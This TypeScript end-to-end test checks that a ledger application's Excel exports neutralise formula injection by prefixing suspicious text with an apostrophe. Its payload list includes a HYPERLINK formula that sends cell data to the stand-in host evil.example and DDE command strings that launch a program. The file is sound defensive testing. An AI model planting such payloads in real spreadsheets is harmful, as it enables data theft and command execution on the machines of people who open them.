import ExcelJS from 'exceljs';
import { binaryParser, readSheet } from '../helpers/excel.js';
import { login, type HttpSession } from '../helpers/http-session.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { createUser, unitIdByCode } from '../helpers/users.factory.js';
import { FORMULA_STRINGS } from './hostile-strings.js';

/**
 * SECURITY.md C10 end to end: records whose text starts like a formula (= + - @, a tab or CR, and
 * the full-width ＝ ＋ － ＠) are filed through the real forms, exported from the real ledgers and
 * reopened with exceljs: no cell holds a formula, and every text that started like one comes back
 * with a leading apostrophe (safeCellText). Forms trim text, so a leading tab or CR cannot be typed
 * in: those records get it in the database directly, as data from elsewhere could.
 */

const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** Cells that would run or link out if a spreadsheet evaluated them. */
const PAYLOADS = [
  ...FORMULA_STRINGS.map((hostile) => hostile.value),
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＠SUM(A1)',
];

interface ExportedCell {
  row: number;
  column: number;
  type: ExcelJS.ValueType;
  value: unknown;
}

async function exportedCells(content: Buffer): Promise<ExportedCell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  const cells: ExportedCell[] = [];
  const sheet = workbook.worksheets[0];
  // Rows counted from the header (row 1); the title block above it has rows 0, -1, … and is
  // checked like every other cell.
  const headerRow = (await readSheet(content)).headerRow;
  sheet.eachRow((row, rowNumber) => {
    row.eachCell((cell, column) => {
      cells.push({ row: rowNumber - headerRow + 1, column, type: cell.type, value: cell.value });
    });
  });
  return cells;
}

describe('Excel exports never let a cell start a formula (HTTP, real PostgreSQL)', () => {
  let testApp: TestApp;
  let clerk: HttpSession;
  let reporter: HttpSession;
  let office: HttpSession;

  const dictionaryId = async (kind: string, code: string) =>
    (
      await testApp.dataSource.query<{ id: number }[]>(
        `SELECT id FROM dictionary_items WHERE kind = $1 AND code = $2`,
        [kind, code],
      )
    )[0].id;
  const idOf = (response: { status: number; headers: Record<string, string> }) => {
    expect(response.status).toBe(303);
    return String(response.headers.location).split('/').pop()!;
  };
  const download = async (session: HttpSession, url: string) => {
    const response = await session.agent.get(url).buffer(true).parse(binaryParser);
    expect(response.status).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/^attachment;/);
    return exportedCells(response.body as Buffer);
  };

  /** Every stored text comes back in some cell as `'` + text, and nothing is a formula. */
  function expectNeutralised(cells: ExportedCell[], stored: string[]) {
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const texts = cells
      .filter((cell) => typeof cell.value === 'string')
      .map((cell) => cell.value as string);
    for (const text of texts) {
      // A text cell may start with an apostrophe, never with a formula character.
      expect(FORMULA_START.test(text)).toBe(false);
    }
    for (const value of stored) {
      // XML reads a CR as LF (end-of-line handling): the cell keeps the line break.
      const cell = (FORMULA_START.test(value) ? `'${value}` : value).replace(/\r\n?/g, '\n');
      expect(texts).toContain(cell);
    }
  }

  beforeAll(async () => {
    testApp = await createTestApp();
    const ds = testApp.dataSource;
    const clerkUser = await createUser(ds, { unitCode: 'yuzhong', roles: ['entry'] });
    const reporterUser = await createUser(ds, { unitCode: '市委网信办', roles: ['entry'] });
    const officeUser = await createUser(ds, { unitCode: '市委改革办', roles: ['office'] });
    clerk = await login(testApp.server, clerkUser.mobile, clerkUser.password);
    reporter = await login(testApp.server, reporterUser.mobile, reporterUser.password);
    office = await login(testApp.server, officeUser.mobile, officeUser.password);
  });

  afterAll(async () => {
    await testApp.close();
  });

  it('should neutralise formula starts in the demand ledger (titles and descriptions)', async () => {
    const form = {
      channelId: String(await dictionaryId('demand_channel', 'public_expectation')),
      domainId: String(await dictionaryId('domain', 'economy')),
    };
    const stored: string[] = [];
    for (const payload of PAYLOADS) {
      const id = idOf(
        await clerk.post('/demands', { ...form, title: payload, description: `${payload} 描述` }),
      );
      const rows = await testApp.dataSource.query<{ title: string }[]>(
        `SELECT title FROM demands WHERE id = $1`,
        [id],
      );
      if (/^[\t\r]/.test(payload)) {
        // The form trimmed the tab or CR: put it back as data from elsewhere could have it.
        expect(rows[0].title).toBe(payload.trim());
        await testApp.dataSource.query(`UPDATE demands SET title = $2 WHERE id = $1`, [
          id,
          payload,
        ]);
      } else {
        expect(rows[0].title).toBe(payload);
      }
      stored.push(payload, `${payload.trim()} 描述`);
    }
    const cells = await download(clerk, '/demands/export');
    expect(cells.filter((cell) => cell.row > 1 && cell.column === 1)).toHaveLength(PAYLOADS.length);
    expectNeutralised(cells, stored);
  });

  it('should neutralise formula starts in the risk ledger (details)', async () => {
    const tongnan = await unitIdByCode(testApp.dataSource, 'tongnan');
    const stored: string[] = [];
    for (const payload of PAYLOADS) {
      const id = idOf(
        await reporter.post('/risk', {
          occurredOn: '2026-03-05',
          levelCode: 'incident_major',
          involvedUnitId: String(tongnan),
          details: payload,
        }),
      );
      if (/^[\t\r]/.test(payload)) {
        await testApp.dataSource.query(`UPDATE risk_events SET details = $2 WHERE id = $1`, [
          id,
          payload,
        ]);
      }
      stored.push(payload);
    }
    expectNeutralised(await download(reporter, '/risk/export'), stored);
  });

  it('should neutralise formula starts in the major-project ledger (names and lead leaders)', async () => {
    const domainId = String(await dictionaryId('domain', 'economy'));
    const responsibleUnitId = String(await unitIdByCode(testApp.dataSource, '市科技局'));
    const stored: string[] = [];
    for (const [index, payload] of PAYLOADS.entries()) {
      idOf(
        await office.post('/major-projects', {
          name: `${payload}#${index}`,
          domainId,
          responsibleUnitId,
          leadLeader: payload,
          planYear: '2026',
        }),
      );
      stored.push(`${payload.trim()}#${index}`, payload.trim());
    }
    expectNeutralised(await download(office, '/major-projects/export'), stored);
  });
});
